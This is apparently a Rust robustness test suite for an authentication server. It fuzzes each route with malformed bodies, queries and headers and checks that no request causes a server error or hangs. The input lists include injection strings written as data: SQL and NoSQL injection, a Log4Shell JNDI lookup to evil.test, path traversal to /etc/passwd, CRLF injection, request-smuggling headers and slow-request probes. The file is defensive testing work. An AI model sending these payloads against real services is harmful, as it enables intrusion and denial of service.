//! Whatever arrives: an answer that says what was wrong, never an error of ours, and never for long.

use std::time::{Duration, Instant};

use guichet_core::http::{Accepts, RouteKind};
use serde_json::{Value, json};
use tokio::io::{AsyncReadExt as _, AsyncWriteExt as _};
use tokio::net::TcpStream;

use super::{OPEN, all_on, fields, path_of, raw, request, sample};
use crate::{EMAIL, PASSWORD, sign_in_by_password, sign_up};

/// What stands where a text is expected.
fn odd_values() -> Vec<Value> {
    vec![
        json!(null),
        json!(true),
        json!(-1),
        json!(1e300),
        json!(9_007_199_254_740_993_i64),
        json!([]),
        json!(["a"]),
        json!({}),
        json!({"$ne": null}),
        json!({"$gt": ""}),
        json!(""),
        json!(" "),
        json!("\u{0}"),
        json!("a\u{0}b"),
        json!("\u{feff}"),
        json!("\u{202e}x"),
        json!("'"),
        json!("' or '1'='1"),
        json!("\"; drop table \"user\"; --"),
        json!("%"),
        json!("${jndi:ldap://evil.test/a}"),
        json!("{{7*7}}"),
        json!("../../etc/passwd"),
        json!("\r\nx: y"),
        json!("x".repeat(65_536)),
        json!("é".repeat(65_536)),
        json!("\u{fdfa}".repeat(40_000)),
        json!("e\u{301}".repeat(30_000)),
        json!("{".repeat(500)),
    ]
}

guichet_testing::stories! {
    // Zod's job in the reference; Q-rows, Keycloak CVE-2026-4634: wrong types, huge and odd texts in every field.
    async fn q_rows_no_value_of_any_field_is_an_error_of_ours(database) {
        let server = all_on(&database, OPEN).await;
        sign_up(&server, EMAIL).await;
        let mut asked = 0;
        for route in server.routes.iter().filter(|route| route.method == "POST" && matches!(route.kind, RouteKind::Api | RouteKind::Program)) {
            let browser = server.browser();
            let mut names: Vec<String> = fields(route.body.as_ref()).into_iter().map(|(name, _)| name).collect();
            names.push("name".to_owned());
            for name in names {
                for value in odd_values() {
                    if route.needs_session && !browser.is_in().await {
                        sign_in_by_password(&browser, EMAIL, PASSWORD).await.expect(200).json();
                    }
                    let mut body = sample(route.body.as_ref());
                    body.insert(name.clone(), value.clone());
                    let body = Value::Object(body).to_string();
                    let began = Instant::now();
                    let answer = browser.request(route.method.clone(), &path_of(route), Some("application/json"), Some(body)).await;
                    let shown: String = value.to_string().chars().take(60).collect();
                    assert!(!answer.status.is_server_error(), "{route:?} {name}: {shown} {answer:?}");
                    assert!(began.elapsed() < Duration::from_secs(5), "{route:?} {name}: {shown}");
                    asked += 1;
                }
            }
        }
        assert!(asked > 1500, "{asked}");
        assert!(server.count("user").await >= 1);
    }

    // sqlx RUSTSEC-2024-0363, axum-core 2022-0055, Kanidm: bodies that are no bodies, on every route that reads one.
    async fn rustsec_2022_0055_no_body_is_an_error_of_ours(database) {
        let server = all_on(&database, OPEN).await;
        let deep = |open: &str, close: &str, n: usize| format!("{}1{}", open.repeat(n), close.repeat(n)).into_bytes();
        let gzip: &[u8] = &[0x1f, 0x8b, 8, 0, 0, 0, 0, 0, 0, 3, 0xab, 0xae, 5, 0, 0x43, 0xbf, 0xa6, 0xa3, 2, 0, 0, 0];
        let mut bodies: Vec<Vec<u8>> = vec![
            deep("[", "]", 10_000), deep("{\"a\":", "}", 10_000), vec![b'x'; 300_000], vec![b' '; 200_000], b"\xff\xfe{\0}\0".to_vec(),
            b"{\"email\":\"\xff\"}".to_vec(), br#"{"email":"\ud800"}"#.to_vec(), br#"{"email":1e999}"#.to_vec(), b"{\"a\":1,}".to_vec(), b"NaN".to_vec(),
            br#"{"email":"a@b.fr","email":["x"]}"#.to_vec(), b"\xef\xbb\xbf{}".to_vec(), gzip.to_vec(), b"null".to_vec(), b"\"\"".to_vec(), b"[]".to_vec(),
            b"a=b&a=c&%ff=%00&=&&&".to_vec(), b"email=%00&password=%ff%fe".to_vec(), b"--x\r\ncontent-disposition: form-data; name=\"a\"\r\n\r\nb\r\n--x--".to_vec(),
        ];
        bodies.push((0..20_000).flat_map(|n| format!("k{n}=v&").into_bytes()).collect());
        let kinds: [&[u8]; 8] = [
            b"content-type: application/json", b"content-type: application/json; charset=utf-16", b"content-type: application/x-www-form-urlencoded",
            b"content-type: multipart/form-data; boundary=x", b"content-type: text/plain", b"content-type: \xff", b"content-type: ,", b"x: y",
        ];
        let origin = format!("origin: {}", server.base()).into_bytes();
        for route in server.routes.iter().filter(|route| route.method == "POST") {
            for kind in kinds {
                for body in &bodies {
                    let lines: [&[u8]; 3] = [kind, &origin, b"content-encoding: identity"];
                    let answer = raw(&server, &request(&format!("POST {} HTTP/1.1", path_of(route)), &lines, body)).await;
                    // A body that is too large may be cut off before its answer is read.
                    let cut = answer.status == 0 && body.len() > 256 * 1024;
                    assert!(cut || (200..500).contains(&answer.status), "{route:?} {kind:?} {} {}", body.len(), answer.text);
                }
            }
        }
        let accepting: Vec<_> = server.routes.iter().filter(|route| route.accepts == Accepts::JsonOrForm).collect();
        assert!(!accepting.is_empty());
    }

    async fn q_rows_no_query_or_path_is_an_error_of_ours(database) {
        let server = all_on(&database, OPEN).await;
        let odd = [
            "%00", "%ff", "%c0%af", "%E0%A4%A", "%", "%zz", "%u0041", "..%2f..%2fetc", "%2e%2e", "'", "%27%20or%201=1--", "%22", "%3Cscript%3E", "a%0d%0ab", "$%7Bx%7D",
            "%F0%9F%A6%80", "%E2%80%AE", "*", "-1", "null", "undefined", "[object%20Object]", "%5B%5D",
        ];
        for route in server.routes.iter().filter(|route| route.method == "GET") {
            let whole = route.full_path("/api/auth");
            for value in odd.iter().map(|odd| (*odd).to_owned()).chain(["x".repeat(20_000)]) {
                let mut paths = vec![format!("{}?lang={value}&{value}&{value}={value}", path_of(route))];
                for (name, _) in fields(route.query.as_ref()) {
                    paths.push(format!("{}?{name}={value}", path_of(route)));
                    paths.push(format!("{}?{name}[]={value}&{name}={value}", path_of(route)));
                }
                if whole.contains('{') {
                    let filled: Vec<String> = whole.split('/').map(|part| if part.starts_with('{') { value.clone() } else { part.to_owned() }).collect();
                    paths.push(filled.join("/"));
                    paths.push(format!("{}?callbackURL=/r", filled.join("/")));
                }
                for path in paths {
                    let answer = raw(&server, &request(&format!("GET {path} HTTP/1.1"), &[], b"")).await;
                    assert!((200..500).contains(&answer.status), "{path:.200} {}", answer.text);
                    assert!(!answer.text.contains("Invalid URL") && !answer.text.contains("Invalid UTF-8"), "{path:.200} {}", answer.text);
                }
            }
        }
        for (first, lines) in [
            ("GET /api/auth/ok HTTP/1.1", vec![b"transfer-encoding: chunked".as_slice(), b"content-length: 5"]),
            ("POST /api/auth/sign-out HTTP/1.1", vec![b"transfer-encoding: xchunked".as_slice()]),
            ("POST /api/auth/sign-out HTTP/1.1", vec![b"content-length: -1".as_slice()]),
            ("POST /api/auth/sign-out HTTP/1.1", vec![b"content-length: 1".as_slice(), b"content-length: 2"]),
            ("GET /api/auth/ok HTTP/9.9", vec![]), ("get /api/auth/ok HTTP/1.1", vec![]), ("CONNECT evil.test:443 HTTP/1.1", vec![]), ("OPTIONS * HTTP/1.1", vec![]),
            ("GET /api/auth/ok", vec![]), ("\x16\x03\x01", vec![]), ("PRI * HTTP/2.0", vec![]),
        ] {
            let answer = raw(&server, &request(first, &lines, b"")).await;
            assert!(answer.status < 500, "{first} {}", answer.text);
        }
        let many: Vec<Vec<u8>> = (0..500).map(|n| format!("x-{n}: y").into_bytes()).collect();
        let many: Vec<&[u8]> = many.iter().map(Vec::as_slice).collect();
        assert!(raw(&server, &request("GET /api/auth/ok HTTP/1.1", &many, b"")).await.status < 500);
        server.browser().get("/ok").await.expect(200).json();
    }

    // Slow heads and slow bodies end by themselves (h2's floods have no HTTP/2 to come by).
    async fn rustsec_2023_0034_slow_requests_are_cut_off(database) {
        let server = all_on(&database, "[http]\nreceive_timeout = \"1s\"\n").await;
        let address = server.base().strip_prefix("http://").unwrap().to_owned();
        let whole: &[u8] = b"POST /api/auth/sign-out HTTP/1.1\r\nhost: x\r\ncontent-type: application/json\r\ncontent-length: 100\r\n\r\n{";
        for (start, answered) in [(&b"POST /api/auth/sign-out HTTP/1.1\r\nhost: x\r\nx-slow: "[..], ""), (whole, "408")] {
            let mut socket = TcpStream::connect(&address).await.unwrap();
            socket.write_all(start).await.unwrap();
            let mut answer = Vec::new();
            let read = tokio::time::timeout(Duration::from_secs(20), async {
                let mut buffer = [0; 4096];
                loop {
                    match socket.read(&mut buffer).await {
                        Ok(0) | Err(_) => break,
                        Ok(n) => answer.extend_from_slice(&buffer[..n]),
                    }
                    if !answer.is_empty() {
                        break;
                    }
                }
            });
            read.await.expect("the server does not wait for ever");
            let answer = String::from_utf8_lossy(&answer).into_owned();
            assert!(answer.contains(answered), "{answer}");
        }
        server.browser().get("/ok").await.expect(200).json();
    }
}
